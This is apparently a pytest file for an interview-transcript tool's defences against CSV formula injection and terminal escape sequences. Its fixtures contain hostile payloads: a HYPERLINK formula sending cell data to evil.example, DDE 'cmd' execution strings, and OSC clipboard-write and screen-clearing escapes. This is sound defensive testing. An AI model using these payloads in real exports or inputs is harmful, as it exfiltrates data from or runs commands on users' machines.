"""Hostile free text: formulas in CSV/TSV exports, control characters and terminal escapes in input.

Text starting with `=`, `+`, `-`, `@`, tab or CR is run as a formula when a CSV/TSV export is
opened in a spreadsheet (OWASP "CSV Injection"); NUL, ESC and C1 characters stored in a name
drive the terminal that later prints it.  Every writer escapes the first, every input refuses
the second, and every listing neutralises what was stored before.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from interview_tui.domain.safe_text import UnsafeTextError, check_text, for_terminal, spreadsheet_cell
from interview_tui.domain.transcript import Segment
from interview_tui.storage.interviewers import get_or_add_interviewer
from tests.fixtures.cli_process import no_traceback, run_cli
from tests.fixtures.export import SeededStudy, add_interview, add_transcript

# -- formula injection --------------------------------------------------------------------

# (cell as stored, cell as written)
CELLS = [
    ("=1+2", "'=1+2"),
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("＝1+2", "'＝1+2"),
    ("- yes, I think so", "'- yes, I think so"),
    # numbers stay numbers
    ("-3", "-3"),
    ("-3.25", "-3.25"),
    ("+4,5", "+4,5"),
    ("-1e5", "-1e5"),
    (-3, -3),
    (-2.5, -2.5),
    # harmless text is unchanged
    ("Haukeland", "Haukeland"),
    ("a = b", "a = b"),
    ("", ""),
    ("'=already quoted", "'=already quoted"),
]


@pytest.mark.parametrize(("stored", "written"), CELLS, ids=[repr(c[0]) for c in CELLS])
def test_spreadsheet_cell(stored, written) -> None:
    assert spreadsheet_cell(stored) == written


def _seed_hostile(seeded: SeededStudy) -> None:
    """An interviewer and transcript text a spreadsheet would run as formulas."""
    db = seeded.db
    evil = get_or_add_interviewer(db, '=HYPERLINK("http://evil.example","x")')
    from interview_tui.storage import participants

    participants.add_participant(db, seeded.study.id, "P20")
    from tests.fixtures.export import _consent_to

    _consent_to(db, seeded.study, "P20", seeded.study_id, "given", evil)
    _, rid = add_interview(db, seeded.project, "P20", seeded.study_id, evil, 25, 40)
    add_transcript(db, rid, 1, "machine", (
        Segment(0.0, 1.0, "=1+2", speaker="P20", question_id=None),
        Segment(1.0, 2.0, "@SUM(A1:A9)", speaker="P20", question_id=None),
        Segment(2.0, 3.0, "-5", speaker="P20", question_id=None),
    ))
    db.conn.commit()


def test_tsv_and_csv_exports_escape_formulas(export_seeded: SeededStudy, tmp_path: Path) -> None:
    """Real `export nvivo` and `report methods --format csv` processes: no cell starts a formula."""
    _seed_hostile(export_seeded)
    root = export_seeded.project.root
    out = tmp_path / "nvivo"
    run = run_cli("--data-dir", root, "export", "nvivo", out, "--participant", "P20")
    assert no_traceback(run) and run.returncode == 0, run.stdout + run.stderr
    (tsv,) = out.glob("*.tsv")
    rows = list(csv.reader(io.StringIO(tsv.read_text("utf-8-sig")), delimiter="\t"))
    assert [r[2] for r in rows[1:]] == ["'=1+2", "'@SUM(A1:A9)", "-5"]

    report = tmp_path / "methods.csv"
    run = run_cli("--data-dir", root, "report", "methods", "--format", "csv", "--out", report)
    assert no_traceback(run) and run.returncode == 0, run.stdout + run.stderr
    cells = [c for row in csv.reader(io.StringIO(report.read_text("utf-8"))) for c in row]
    assert '\'=HYPERLINK("http://evil.example","x")' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c[1:2].isalpha())]


def test_demographics_summary_csv_escapes_a_study_label(tmp_path: Path) -> None:
    """A study file's field label is written into the summary CSV: escaped too."""
    from tests.fixtures.study import MINIMAL_STUDY

    study = tmp_path / "study.yaml"
    study.write_text(MINIMAL_STUDY.read_text("utf-8").replace("label: Age", 'label: "=1+2"'), encoding="utf-8")
    answers = tmp_path / "a.csv"
    answers.write_text("participant,age\nP01,40\n", encoding="utf-8")
    project = tmp_path / "project"
    run = run_cli("--data-dir", project, "demographics", "import", answers, "--add-missing", "--study", study)
    assert run.returncode == 0, run.stdout + run.stderr
    run = run_cli("--data-dir", project, "demographics", "summary", "--format", "csv", "--study", study)
    assert no_traceback(run) and run.returncode == 0, run.stdout + run.stderr
    rows = list(csv.reader(io.StringIO(run.stdout)))
    assert {r[1] for r in rows[1:] if r[0] == "age"} == {"'=1+2"}


# -- control characters ---------------------------------------------------------------------

# (case id, text) refused in one-line fields
CONTROL = [
    ("NUL", "M\x00P"),
    ("ESC clear screen", "MP\x1b[2J"),
    ("ESC retitle window (OSC)", "\x1b]0;pwned\x07MP"),
    ("OSC 52 clipboard write", "MP\x1b]52;c;ZWNobyBwd25lZA==\x07"),
    ("C1 CSI", "MP\x9b31m"),
    ("BEL", "MP\x07"),
    ("backspace over text", "Dr. X\x08\x08\x08\x08\x08MP"),
    ("DEL", "MP\x7f"),
    ("carriage return overwrite", "real\rfake"),
    ("line break in a name", "M\nP"),
    ("tab in a name", "M\tP"),
]
ACCEPTED = ["Marit Ødegård", "Jón Þór", "Ana-María O'Neil", "李 小龍", "🙂 MP", "أحمد", "  MP  "]


@pytest.mark.parametrize("text", [c[1] for c in CONTROL], ids=[c[0] for c in CONTROL])
def test_control_characters_refused(text: str) -> None:
    with pytest.raises(UnsafeTextError, match=r"^interviewer name: contains the control character U\+"):
        check_text(text, "interviewer name")
    assert "\x1b" not in for_terminal(text) and "\x00" not in for_terminal(text)


@pytest.mark.parametrize("text", ACCEPTED)
def test_real_names_accepted(text: str) -> None:
    assert check_text(text, "interviewer name") == text
    assert for_terminal(text) == text


def test_notes_keep_line_breaks_and_tabs() -> None:
    assert check_text("first\n\tsecond\r\n", "note", multiline=True)
    with pytest.raises(UnsafeTextError):
        check_text("first\n\x1b[2Jsecond", "note", multiline=True)


# (case id, CLI arguments with {bad} for the hostile text, expected message part)
CLI_INPUTS = [
    ("interviewers add NAME", ["interviewers", "add", "{bad}"], "interviewer name: contains the control character"),
    ("interviewers add --role", ["interviewers", "add", "MP", "--role", "{bad}"], "interviewer role: contains"),
    ("withdraw --actor", ["withdraw", "P01", "--yes", "--actor", "{bad}"], "the actor contains the control character"),
    ("review signoff --by", ["review", "signoff", "1", "--by", "{bad}"], "--by contains the control character"),
    ("participants add --code", ["participants", "add", "--code", "{bad}"], "is not a participant code"),
    ("key show CODE (was a traceback)", ["key", "show", "{bad}"], "is not a participant code"),
    ("key remove CODE (was a traceback)", ["key", "remove", "{bad}"], "is not a participant code"),
]


@pytest.mark.parametrize(("args", "message"), [c[1:] for c in CLI_INPUTS], ids=[c[0] for c in CLI_INPUTS])
def test_cli_refuses_escape_sequences(tmp_path: Path, args: list[str], message: str) -> None:
    bad = "MP\x1b]0;pwned\x07\x1b[2J"
    project = tmp_path / "project"
    run = run_cli("--data-dir", project, *[a.replace("{bad}", bad) for a in args])
    assert no_traceback(run), run.stderr
    assert run.returncode != 0
    assert message in run.stderr
    assert "\x1b" not in run.stdout + run.stderr, "the refusal must not echo the escape raw"
    if (project / "interview.db").exists():
        with sqlite3.connect(project / "interview.db") as conn:
            assert conn.execute("SELECT COUNT(*) FROM interviewers").fetchone()[0] == 0


def test_key_add_refuses_escape_in_name(tmp_path: Path) -> None:
    project, key = tmp_path / "project", tmp_path / "elsewhere" / "key.json"
    assert run_cli("--data-dir", project, "participants", "add").returncode == 0
    run = run_cli("--data-dir", project, "key", "add", "P01", "--name", "Ola\x1b[2J", "--key-file", key)
    assert no_traceback(run) and run.returncode == 1
    assert "name: contains the control character U+001B ESC" in run.stderr
    assert not key.exists()


def test_demographics_csv_cell_with_escape_refused(tmp_path: Path) -> None:
    from interview_tui.domain.demographics_csv import read_demographics_csv
    from tests.fixtures.records import seed_demographic_form

    path = tmp_path / "a.csv"
    path.write_bytes(b'participant,workplace\r\nP01,"Oslo\x1b[31m"\r\nP02,"two\nlines"\r\n')
    rows, errors = read_demographics_csv(path, seed_demographic_form())
    assert errors == [
        f"{path}: row 2, column workplace: contains the control character U+001B ESC at character 5, which is not "
        "text here (this takes one line); remove it (it often comes from pasting terminal output)",
        f"{path}: row 3, column workplace: contains the control character U+000A LINE FEED at character 4, which is "
        "not text here (this takes one line); remove it (it often comes from pasting terminal output)",
    ]


@pytest.mark.parametrize("stored", [c[1] for c in CONTROL], ids=[c[0] for c in CONTROL])
def test_interviewers_list_neutralises_stored_escapes(tmp_path: Path, stored: str) -> None:
    """A name stored before input was checked (or written around it) is printed inert."""
    project = tmp_path / "project"
    assert run_cli("--data-dir", project, "interviewers", "add", "KNH").returncode == 0
    with sqlite3.connect(project / "interview.db") as conn:
        conn.execute("INSERT INTO interviewers (name, role, created_at) VALUES (?, ?, '2026-01-01')", [stored, stored])
    run = run_cli("--data-dir", project, "interviewers", "list")
    assert no_traceback(run) and run.returncode == 0
    printable = {"\n"}
    assert not [ch for ch in run.stdout if (ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F) and ch not in printable]
    assert "\\x" in run.stdout and "KNH" in run.stdout


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.mark.anyio
@pytest.mark.parametrize("typed, saved", [("MP\x1b[2J", None), ("first\x00", None), ("Said \"no\" – twice", "Said \"no\" – twice")],
                         ids=["ESC", "NUL", "plain"])
async def test_note_dialog_refuses_control_characters(typed: str, saved: str | None) -> None:
    """The app's note dialog keeps a note with a control character open and says why, saves others."""
    from textual.app import App
    from textual.widgets import Input

    from interview_tui.tui.screens.dialogs import NoteDialog

    results: list[str | None] = []

    class Host(App[None]):
        def on_mount(self) -> None:
            self.push_screen(NoteDialog("Note"), results.append)

    app = Host()
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        app.screen.query_one("#note-text", Input).value = typed
        await pilot.press("enter")
        await pilot.pause()
        if saved is None:
            assert results == [] and isinstance(app.screen, NoteDialog)
            assert any("control character" in n.message for n in app._notifications)
        else:
            assert results == [saved]
